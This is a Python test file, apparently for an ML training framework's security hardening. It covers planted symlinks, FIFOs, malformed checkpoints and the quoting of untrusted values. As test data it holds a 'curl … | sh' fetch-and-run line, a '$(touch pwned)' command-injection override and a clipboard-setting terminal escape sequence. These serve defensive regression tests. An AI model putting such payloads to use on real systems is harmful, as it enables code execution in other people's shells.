"""Files a run reads back, attacked (after test_read_back.py): a run directory handed over as "resume
from mine", or a results folder others write to, holding links where rft writes its own files;
and a resealed checkpoint whose trainer state or LoRA adapter is of another shape than the model's."""

import os

import pytest
import torch
from test_lora import LORA
from test_trainer import experiences, make_trainer

from rft import manifest
from rft.errors import RunError
from rft.reporting import monitor
from rft.runtime import rundir
from rft.trainer.state import CheckpointFileError

BASHRC = "export PATH=$HOME/bin:$PATH\n"


@pytest.fixture
def victim(tmp_path):
    """A file outside the run directory that a planted link points to (a ~/.bashrc)."""
    path = tmp_path / "home" / ".bashrc"
    path.parent.mkdir()
    path.write_text(BASHRC)
    return path


def test_a_write_through_a_planted_tmp_link_replaces_the_link_and_spares_its_target(tmp_path, victim):
    """Every file rft writes whole goes through <file>.tmp: open() followed a link there and
    truncated the file it points to, then filled it with the config, report or log."""
    run = tmp_path / "run"
    run.mkdir()
    (run / "config.yaml.tmp").symlink_to(victim)
    manifest.write_atomic(run / "config.yaml", "seed: 1\n")
    assert victim.read_text() == BASHRC
    assert (run / "config.yaml").read_text() == "seed: 1\n" and not (run / "config.yaml").is_symlink()
    assert not (run / "config.yaml.tmp").exists()


def test_a_resumed_metrics_log_is_never_written_into_a_linked_file(tmp_path, victim):
    """A resume rewrites metrics.jsonl through metrics.jsonl.tmp keeping the lines that are not records
    as they are: a planted link there put those lines, a shell command among them, into ~/.bashrc,
    and the run's appends followed (the rename moved the link into metrics.jsonl's place)."""
    path = tmp_path / "metrics.jsonl"
    path.write_text('{"step": 1, "x": 1}\ncurl example.invalid/x | sh\n{"step": 2, "x": 2}\n{"step": 3, "x": 3}\n')
    (tmp_path / "metrics.jsonl.tmp").symlink_to(victim)
    f, steps = monitor._reopen(path, 2)
    f.write('{"step": 3, "x": 4}\n')
    f.close()
    assert steps == {1, 2}
    assert victim.read_text() == BASHRC
    # the damaged line stays in the log (rft never deletes one), and only there
    assert path.read_text() == '{"step": 1, "x": 1}\ncurl example.invalid/x | sh\n{"step": 2, "x": 2}\n{"step": 3, "x": 4}\n'


@pytest.mark.parametrize("where", [".run.lock", "grpo/run.log", "grpo/metrics.jsonl", "grpo/config_changes.log",
                                   ".hydra/config.yaml.tmp", "log/trainer.log", "nowhere"])
def test_a_run_directory_with_a_link_to_a_file_is_refused_before_anything_is_written(tmp_path, victim, where):
    """run_lock is the first thing a run does in its directory: .run.lock itself was opened through
    a link and truncated (its target's content replaced by "pid N on host"), and the logs rft and
    Hydra append to (run.log, log/<actor>.log, config_changes.log) followed one. A link to nothing
    is refused too: appending through it creates its target."""
    run = tmp_path / "run"
    (run / "grpo" / "checkpoints").mkdir(parents=True)
    link = run / (where if where != "nowhere" else "grpo/batches.jsonl")
    link.parent.mkdir(parents=True, exist_ok=True)
    target = victim if where != "nowhere" else tmp_path / "home" / ".profile"
    link.symlink_to(target)
    with pytest.raises(RunError) as e:
        with rundir.run_lock(run):
            pass
    assert str(e.value) == (
        f"{link} is a link (to {target}): rft writes its own files in the run directory {run} and never makes a "
        f"link there, so a run would write through it into the file it points to. It was put there by hand or came "
        f"with a copy of the run. Remove the link (`find {run} -type l` lists them; a link to a folder may stay), or "
        f"give this run another name (name=...).")
    assert victim.read_text() == BASHRC and not (tmp_path / "home" / ".profile").exists()


def test_links_to_folders_and_inside_sealed_checkpoints_are_not_refused(tmp_path):
    """The user's own: checkpoints on a scratch disk through a link to a folder. A link inside a
    checkpoint is its manifest's to refuse (the resume sets that checkpoint aside,
    test_checkpoints_manifest), and a folder moved aside (previous_*) is not written again."""
    run, scratch = tmp_path / "run", tmp_path / "scratch"
    (run / "grpo").mkdir(parents=True)
    scratch.mkdir()
    (run / "grpo" / "checkpoints").symlink_to(scratch, target_is_directory=True)
    (run / "sft" / "checkpoints" / "step_2" / "hf").mkdir(parents=True)
    (run / "sft" / "checkpoints" / "step_2" / "hf" / "config.json").symlink_to(tmp_path / "x.json")
    (run / "previous_20260101_000000").mkdir()
    (run / "previous_20260101_000000" / "run.log").symlink_to(tmp_path / "old.log")
    assert rundir.planted_links(run) == []
    with rundir.run_lock(run):
        pass
    assert (run / rundir.RUN_LOCK).read_text().startswith(f"pid {os.getpid()} on ")


def test_a_planted_move_aside_folder_that_is_a_link_takes_no_outputs(tmp_path):
    """finish_move_aside finishes a move a kill cut short by moving every output into
    previous_<time>.tmp/: a link of that name to a folder elsewhere (a results folder others
    write to: theirs) had the run's checkpoints and logs moved out to it."""
    run, elsewhere = tmp_path / "run", tmp_path / "theirs"
    (run / "grpo").mkdir(parents=True)
    elsewhere.mkdir()
    (run / "grpo" / "metrics.jsonl").write_text('{"step": 1}\n')
    (run / "previous_20260101_000000.tmp").symlink_to(elsewhere, target_is_directory=True)
    assert rundir.finish_move_aside(run) is None
    assert (run / "grpo" / "metrics.jsonl").read_text() == '{"step": 1}\n'
    assert list(elsewhere.iterdir()) == []


# ---------------------------------------------------------------- a resealed trainer state

@pytest.fixture(scope="module")
def saved(tmp_path_factory):
    """A trainer after one step, saved: (the trainer, its checkpoint directory)."""
    t = make_trainer(128)
    t.train_step(experiences())
    d = tmp_path_factory.mktemp("ckpt")
    t.save(str(d))
    return t, d


def edited(d, tmp_path, change):
    """A copy of checkpoint `d`'s trainer_state.pt changed by `change(state)` (hf/ linked as it is)."""
    (tmp_path / "hf").symlink_to(d / "hf", target_is_directory=True)
    state = torch.load(d / "trainer_state.pt", weights_only=True)
    change(state)
    torch.save(state, tmp_path / "trainer_state.pt")
    return tmp_path


def first_moment(state):
    """Adam's exp_avg of the first parameter, its shape (and so its bytes) tripled: a [3, *shape]."""
    m = state["optimizer"]["state"][0]
    m["exp_avg"] = torch.zeros(3, *m["exp_avg"].shape)


@pytest.mark.parametrize("change, why", [
    (first_moment, "its optimizer's exp_avg of parameter 0 has shape [3, 103, 128], the parameter [103, 128]"),
    (lambda s: s["scheduler"].update(optimizer={}),
     "its scheduler part holds ['optimizer'], which is not a state of the trainer's scheduler"),
    (lambda s: s["optimizer"]["param_groups"][0]["params"].pop(),
     "its optimizer holds 25 parameters, this model's 26"),
    (lambda s: s.update(version="7"), "its version '7' is not a step count"),
])
def test_a_trainer_state_of_another_shape_is_refused_before_anything_loads(saved, tmp_path, change, why):
    """torch's Optimizer.load_state_dict checks only how many parameters each group holds: moments of
    another shape loaded without a word and the first step failed in Adam with a bare traceback
    ("output with shape [103, 128] doesn't match the broadcast shape [3, 103, 128]"); LambdaLR's puts
    every key of the scheduler's part into its own attributes, its optimizer too. A
    CheckpointFileError names the file: the runner sets the checkpoint aside as damaged
    (rft.runtime.saving) and the one before is loaded."""
    t, d = saved
    ckpt = edited(d, tmp_path, change)
    fresh = make_trainer(128)
    before = fresh.fingerprint()
    with pytest.raises(CheckpointFileError) as e:
        fresh.load(str(ckpt))
    assert str(e.value) == f"{ckpt / 'trainer_state.pt'} does not load ({why}: the trainer never saves one so)"
    assert fresh.fingerprint() == before and fresh.version == 0


def test_the_trainer_state_as_saved_still_loads(saved, tmp_path):
    t, d = saved
    fresh = make_trainer(128)
    fresh.load(str(edited(d, tmp_path, lambda s: None)))
    assert fresh.fingerprint() == t.fingerprint() and fresh.version == 1


@pytest.mark.slow  # 1.8 s alone, over the fast tier's second
@pytest.mark.parametrize("drop", [1, 28])  # one tensor, every one (an adapter file saved by another PEFT naming)
def test_a_lora_adapter_missing_tensors_is_refused_not_resumed_half_fresh(tmp_path, drop):
    """set_peft_model_state_dict loads the tensors an adapter file has and says nothing of the ones
    it lacks: those layers resumed as freshly made (B zero) under the saved optimizer's moments."""
    from safetensors.torch import load_file, save_file

    t = make_trainer(128, LORA)
    t.train_step(experiences())
    t.save(str(tmp_path), with_hf=False)
    path = tmp_path / "adapter" / "adapter_model.safetensors"
    tensors = load_file(path)
    assert len(tensors) == 28  # 2 layers x 7 linear layers x (A, B)
    names = sorted(tensors)
    save_file({k: v for k, v in tensors.items() if k not in names[:drop]}, path)
    fresh = make_trainer(128, LORA)
    with pytest.raises(CheckpointFileError) as e:
        fresh.load(str(tmp_path))
    # named in the model's order: the first layer's q_proj, k_proj, v_proj
    first = [f"base_model.model.model.layers.0.self_attn.{m}.lora_{ab}.weight"
             for m, ab in (("q_proj", "A"), ("q_proj", "B"), ("k_proj", "A"), ("k_proj", "B"), ("v_proj", "A"))]
    listed = f"{first} and 23 more" if drop == 28 else f"{names[:1]}"  # 28 = 5 named + 23
    assert str(e.value) == (f"{path} does not load (RuntimeError: the adapter does not match the model's LoRA "
                            f"config: missing {listed})")


# ---------------------------------------------------------------- a FIFO where a log or record is read

def finishes(fn, fifo, within_s=20):
    """fn()'s value, asserting it returns: read through a FIFO it waits for a writer forever (the
    test then opens the FIFO for writing so the stuck thread ends)."""
    import threading

    out = {}
    t = threading.Thread(target=lambda: out.setdefault("value", fn()), daemon=True)
    t.start()
    t.join(within_s)
    if t.is_alive():
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        t.join(5)
    assert "value" in out, f"{fn} waited on the FIFO {fifo}"
    return out["value"]


def test_a_fifo_in_a_runs_place_of_a_log_is_left_out_by_the_report_and_the_studio(tmp_path, capsys):
    """A results folder others write to, read by `python -m rft.reporting.report` and the studio's
    pages: a FIFO named metrics.jsonl, .run.lock or .hydra/overrides.yaml blocked the open and the
    read until something wrote to it (the page, the report hung for good); a link to /dev/zero in
    that place was read until memory ran out (MemoryError)."""
    from rft.reporting import report
    from rft.studio.index import CachedFiles, holder_alive

    run = tmp_path / "run"
    (run / ".hydra").mkdir(parents=True)
    for name in ("metrics.jsonl", ".run.lock", ".hydra/overrides.yaml"):
        os.mkfifo(run / name)
    assert finishes(lambda: report.read_jsonl(run / "metrics.jsonl"), run / "metrics.jsonl") == []
    assert finishes(lambda: CachedFiles().jsonl(run / "metrics.jsonl"), run / "metrics.jsonl") == []
    assert finishes(lambda: holder_alive(run), run / ".run.lock") is None
    assert finishes(lambda: report.parse_overrides(run, "run"), run / ".hydra/overrides.yaml") is None
    err = capsys.readouterr().err
    assert (f"rft.reporting.report: warning: {run / 'metrics.jsonl'} does not read (not a regular file (a FIFO, a "
            f"device or a socket)); its job is reported without metrics.") in err
    assert (f"rft.reporting.report: warning: {run / '.hydra/overrides.yaml'} does not read (not a regular file (a FIFO, "
            f"a device or a socket)); job run is reported as a configuration of its own, without its overrides.") in err


def test_a_fifo_in_a_run_directory_stops_the_run_before_it_reads_it(tmp_path):
    """A resume reads metrics.jsonl back (rft.reporting.monitor._reopen): a FIFO there hung it."""
    run = tmp_path / "run"
    (run / "grpo").mkdir(parents=True)
    os.mkfifo(run / "grpo" / "metrics.jsonl")
    with pytest.raises(RunError) as e:
        with rundir.run_lock(run):
            pass
    assert str(e.value) == (
        f"{run / 'grpo' / 'metrics.jsonl'} is not a regular file (a FIFO, a socket or a device): rft writes only files "
        f"and folders in the run directory {run}, and a run reading it back would wait on it forever. It was put "
        f"there by hand or came with a copy of the run. Remove it (`find {run} ! -type f ! -type d` lists such "
        f"entries), or give this run another name (name=...).")


def test_a_fifo_as_a_checkpoints_state_sets_it_aside_instead_of_hanging_the_resume(tmp_path):
    """list_checkpoints reads every checkpoint's state.json before the manifest's check (the resume,
    and mode=explore polling another run's checkpoints): a FIFO there blocked it for good. The
    run's own lock does not look into checkpoints (sealed), so the read itself must not wait."""
    from rft.runtime import checkpoint

    stage = tmp_path / "grpo"
    checkpoint.write(stage, 1, {"version": 1})
    checkpoint.write(stage, 2, {"version": 2})
    state = stage / "checkpoints" / "step_2" / "state.json"
    state.unlink()
    os.mkfifo(state)
    found = finishes(lambda: checkpoint.list_checkpoints(stage), state)
    assert [(c.step, c.problem) for c in found] == [
        (1, None), (2, f"{state}: does not read (not a regular file (a FIFO, a device or a socket))")]
    assert checkpoint.latest_checkpoint(stage).step == 1


def test_pruning_old_checkpoints_never_deletes_through_a_linked_one(tmp_path):
    """trainer.max_ckpt_to_keep deletes the oldest checkpoints: one that is a link to a folder
    elsewhere (planted, a link to a folder being the user's own to make) loses the link alone; the
    folder it points to and its files stay."""
    from rft.runtime import checkpoint

    stage, theirs = tmp_path / "grpo", tmp_path / "theirs"
    checkpoint.write(stage, 2, {"version": 2})
    os.rename(stage / "checkpoints" / "step_2", theirs)  # a whole checkpoint, elsewhere
    (theirs / "notes.txt").write_text("keep me")
    (stage / "checkpoints" / "step_1").symlink_to(theirs, target_is_directory=True)
    checkpoint.write(stage, 3, {"version": 3}, keep=1)
    assert (theirs / "notes.txt").read_text() == "keep me" and (theirs / "state.json").exists()
    assert sorted(p.name for p in (stage / "checkpoints").iterdir()) == ["step_3"]


def test_the_reports_common_line_quotes_what_a_shell_would_run(tmp_path):
    """report.md's "Common to all jobs" line is the overrides to paste after `python run.py`: a value read
    from a job's .hydra/overrides.yaml (a results folder others write to) went in as it was, so
    `$(...)` in it ran in the shell of whoever pasted the line. Each one that needs it is quoted."""
    import yaml
    from test_report import write_job

    from rft.reporting import report

    sweep = tmp_path / "sweep"
    common = ["cluster=inline", "name=x$(touch pwned)", "monitor.console_keys=[a, b]"]
    write_job(sweep, 0, ["seed=1", *common], "grpo", {"grpo": [{"step": 1, "reward/mean": 0.5}]})
    write_job(sweep, 1, ["seed=2", *common], "grpo", {"grpo": [{"step": 1, "reward/mean": 0.7}]})
    assert yaml.safe_load((sweep / "0" / ".hydra" / "overrides.yaml").read_text())[2] == "name=x$(touch pwned)"
    lines = report.report(sweep)["md"].read_text().splitlines()
    assert "Common to all jobs: `cluster=inline 'name=x$(touch pwned)' 'monitor.console_keys=[a, b]'`" in lines


def test_a_handed_over_checkpoints_identity_reaches_the_console_without_its_escape_sequences(tmp_path):
    """"resuming from step 2 of run <run>" printed the run its manifest names as it was: an escape
    sequence there (OSC 52 sets the clipboard, others rewrite what the terminal shows) reached the
    terminal. A value with a control character is shown as its repr."""
    from rft.runtime import checkpoint

    theirs = checkpoint.Owner(run="rft/x\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07", stage="grpo", config="c", model="m")
    stage = tmp_path / "grpo"
    checkpoint.write(stage, 2, {"version": 2}, owner=theirs)
    said = []
    mine = checkpoint.Owner(run="rft/mine", stage="grpo", config="c", model="m")
    ckpt = checkpoint.usable_checkpoint(stage, mine, "grpo", said.append)
    assert ckpt.step == 2
    assert said == ["[grpo] resuming from step 2 of run 'rft/x\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07' (this run: "
                    "rft/mine), written with the same stage, model and configuration"]
    assert checkpoint.describe({"run": "rft/a b", "stage": "grpo"}) == "run rft/a b, stage grpo, model None, config None"


def test_an_export_into_a_shared_folder_never_writes_through_a_planted_partial_link(tmp_path):
    """The export is written in <out>.partial and renamed to <out>: a link of that name (a models folder
    others write to) had save_pretrained write the model into the folder it points to (theirs), and
    the rename made <out> that link, so what is loaded from <out> later is whatever they put there."""
    from rft.runtime.export import export

    t = make_trainer(128)
    d = tmp_path / "checkpoints" / "step_1"
    d.mkdir(parents=True)
    t.save(str(d))
    (d / "state.json").write_text('{"step": 1, "manifest": 1}')
    manifest.seal(d, {"step": 1})
    shared, theirs = tmp_path / "models", tmp_path / "theirs"
    shared.mkdir()
    theirs.mkdir()
    (shared / "mine.partial").symlink_to(theirs, target_is_directory=True)
    out = export(d, shared / "mine")
    assert not out.is_symlink() and out.is_dir() and manifest.verify(out) is None
    assert list(theirs.iterdir()) == [] and not (shared / "mine.partial").exists()


def test_the_write_check_before_the_lock_never_truncates_through_a_link(tmp_path, victim):
    """check_writable runs before run_lock's look for links: its probe .write_test_<pid>, a name a
    container's small pid space makes easy to guess, was opened through a link and truncated its target."""
    run = tmp_path / "run"
    run.mkdir()
    (run / f".write_test_{os.getpid()}").symlink_to(victim)
    rundir.check_writable(run)
    assert victim.read_text() == BASHRC and list(run.iterdir()) == []


def test_the_task_pipelines_report_is_not_written_through_a_planted_link(tmp_path, victim, monkeypatch):
    # <stage>/task_pipeline.json was written with write_text: through a link of that name, into its target
    import json

    from rft.data import pipeline

    stage = tmp_path / "run" / "grpo"
    stage.mkdir(parents=True)
    (stage / "task_pipeline.json").symlink_to(victim)
    monkeypatch.setattr(pipeline, "has_task_pipeline", lambda cfg: True)
    monkeypatch.setattr(pipeline, "cached_report", lambda cfg: {"rows": 10, "operators": []})
    pipeline.write_report(None, stage)
    assert victim.read_text() == BASHRC
    assert not (stage / "task_pipeline.json").is_symlink()
    assert json.loads((stage / "task_pipeline.json").read_text()) == {"rows": 10, "operators": []}


def fsdp_one_rank():
    """trainer=fsdp2 as one rank in this process (its store hosted here, as the driver does)."""
    import torch.distributed as dist
    from conftest import compose_cfg

    from rft.models import ensure_model
    from rft.plan.batch import make_plan, stage_configs
    from rft.trainer.fsdp import FSDPTrainer

    cfg = stage_configs(compose_cfg(["stages=[]", "trainer=fsdp2", "trainer.ranks=1",
                                     "trainer.micro_batch_size_per_gpu=128"]))[0]
    ensure_model(cfg.model)
    store = dist.TCPStore("127.0.0.1", 0, is_master=True, wait_for_workers=False)
    trainer = FSDPTrainer(cfg, make_plan(cfg, 2000), None, 0, 1, ("127.0.0.1", store.port))
    trainer._store = store  # alive as long as the trainer
    return trainer


def renamed(state):
    """fsdp2's form of a state (keyed by name) with the first parameter's name one the model lacks."""
    opt = state["optimizer"]
    opt["state"]["nosuch.weight"] = opt["state"].pop(opt["param_groups"][0]["params"][0])
    opt["param_groups"][0]["params"][0] = "nosuch.weight"


@pytest.mark.slow  # 1.1 s alone, over the fast tier's second
def test_trainer_fsdp2_refuses_a_state_of_another_shape_in_either_form(saved, tmp_path):
    # fsdp2's load did not check: its set_optimizer_state_dict took what torch's form or its own gave
    import torch.distributed as dist

    t, d = saved
    rank = fsdp_one_rank()
    try:
        before = rank.fingerprint()
        (tmp_path / "torch_form").mkdir()
        ckpt = edited(d, tmp_path / "torch_form", first_moment)  # trainer=torch's form: keyed by position
        with pytest.raises(CheckpointFileError) as e:
            rank.load(str(ckpt))
        assert str(e.value) == (f"{ckpt / 'trainer_state.pt'} does not load (its optimizer's exp_avg of parameter 0 has "
                                f"shape [3, 103, 128], the parameter [103, 128]: the trainer never saves one so)")
        (tmp_path / "own").mkdir()
        rank.save(str(tmp_path / "own"))  # keyed by parameter name
        (tmp_path / "by_name").mkdir()
        state = torch.load(tmp_path / "own" / "trainer_state.pt", weights_only=True)
        assert all(isinstance(i, str) for i in state["optimizer"]["param_groups"][0]["params"])
        ckpt = edited(tmp_path / "own", tmp_path / "by_name", renamed)
        with pytest.raises(CheckpointFileError) as e:
            rank.load(str(ckpt))
        assert str(e.value) == (f"{ckpt / 'trainer_state.pt'} does not load (its optimizer names parameter "
                                f"'nosuch.weight', which this model lacks: the trainer never saves one so)")
        assert rank.fingerprint() == before and rank.version == 0
        rank.load(str(d))  # as saved (torch's form): loads
        assert rank.fingerprint() == t.fingerprint() and rank.version == 1
    finally:
        dist.destroy_process_group()
